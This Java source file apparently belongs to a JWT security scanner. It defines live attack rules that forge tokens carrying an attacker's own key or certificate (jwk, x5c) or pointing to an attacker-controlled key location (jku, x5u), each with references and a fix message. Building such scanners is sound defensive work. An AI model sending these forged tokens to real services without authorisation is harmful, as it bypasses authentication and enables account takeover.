package io.countersign.auth.scan.live.attack;

import static io.countersign.auth.scan.report.Reference.asvs;
import static io.countersign.auth.scan.report.Reference.cve;
import static io.countersign.auth.scan.report.Reference.cwe;
import static io.countersign.auth.scan.report.Reference.rfc;
import static io.countersign.auth.scan.report.Severity.CRITICAL;

import io.countersign.auth.scan.report.Reference;
import io.countersign.auth.scan.report.RuleInfo;
import java.util.List;
import java.util.stream.Stream;

/** Whether a token may bring the key that it is verified by, or say where it is. */
final class KeyHeaderAttacks {

  private static final String FIX =
      "Take keys from your own configuration only; refuse tokens with jwk, jku, x5c or x5u.";

  static final Attack JWK =
      new Attack(
              info(
                  "CS-LIVE-JWK",
                  "A token may bring its own key",
                  rfc(7515, "4.1.3"),
                  cve("CVE-2018-0114")),
              (material, plan) -> {
                AttackerKey key = material.attacker();
                Forgery forgery = forgery(material);
                String genuine = material.valid().kid();
                plan.send(
                    "jwk",
                    sign(forgery.with("jwk", key.jwk(AttackerKey.KID)), AttackerKey.KID, key));
                plan.send(
                    "jwk under the genuine kid",
                    sign(forgery.with("jwk", key.jwk(genuine)), genuine, key));
                plan.send(
                    "jwk without kid",
                    forgery
                        .without("kid")
                        .with("jwk", key.jwk(AttackerKey.KID))
                        .signed(key.privateKey()));
              })
          .unless(SignatureAttacks.PAYLOAD);

  static final Attack X5C =
      new Attack(
              info(
                  "CS-LIVE-X5C",
                  "A token may bring its own certificate",
                  rfc(7515, "4.1.6"),
                  cwe(295)),
              (material, plan) -> {
                AttackerKey key = material.attacker();
                Forgery forgery =
                    forgery(material).with("x5c", List.of(key.certificate().base64()));
                plan.send("x5c", sign(forgery, AttackerKey.KID, key));
                plan.send("x5c under the genuine kid", sign(forgery, material.valid().kid(), key));
                plan.send("x5c without kid", forgery.without("kid").signed(key.privateKey()));
              })
          .unless(SignatureAttacks.PAYLOAD);

  static final Attack JKU =
      new Attack(
              info(
                  "CS-LIVE-JKU",
                  "A token may say where its key set is",
                  rfc(8725, "3.10"),
                  cwe(918)),
              (material, plan) -> lure(material, plan, "jku", "json"))
          .unless(SignatureAttacks.PAYLOAD);

  static final Attack X5U =
      new Attack(
              info(
                  "CS-LIVE-X5U",
                  "A token may say where its certificate is",
                  rfc(8725, "3.10"),
                  cwe(918)),
              (material, plan) -> lure(material, plan, "x5u", "pem"))
          .unless(SignatureAttacks.PAYLOAD);

  private KeyHeaderAttacks() {}

  private static RuleInfo info(String id, String title, Reference... references) {
    return new RuleInfo(
        id,
        CRITICAL,
        title,
        "Anybody can make a key and sign with it.",
        FIX,
        Stream.concat(Stream.of(references), Stream.of(asvs("9.1.3"), cwe(347))).toList());
  }

  private static Forgery forgery(Material material) {
    return Forgery.of(material.valid()).with("alg", material.attacker().alg());
  }

  private static String sign(Forgery forgery, String kid, AttackerKey key) {
    return forgery.with("kid", kid).signed(key.privateKey());
  }

  private static void lure(Material material, Attack.Plan plan, String member, String ending) {
    AttackerKey key = material.attacker();
    Object issuer = material.valid().claims().getOrDefault("iss", "issuer");
    String own = member + "-own." + ending;
    String genuine = member + "-genuine." + ending;
    String query = member + "-query." + ending;
    Forgery forgery = forgery(material);
    AttackerSite site = material.site();
    plan.sendWithLure(member, sign(forgery.with(member, site.url(own)), AttackerKey.KID, key), own);
    plan.sendWithLure(
        member + " under the genuine kid",
        sign(forgery.with(member, site.url(genuine)), material.valid().kid(), key),
        genuine);
    plan.sendWithLure(
        member + " that mentions the issuer",
        sign(forgery.with(member, site.url(query) + "?" + issuer), AttackerKey.KID, key),
        query);
  }
}
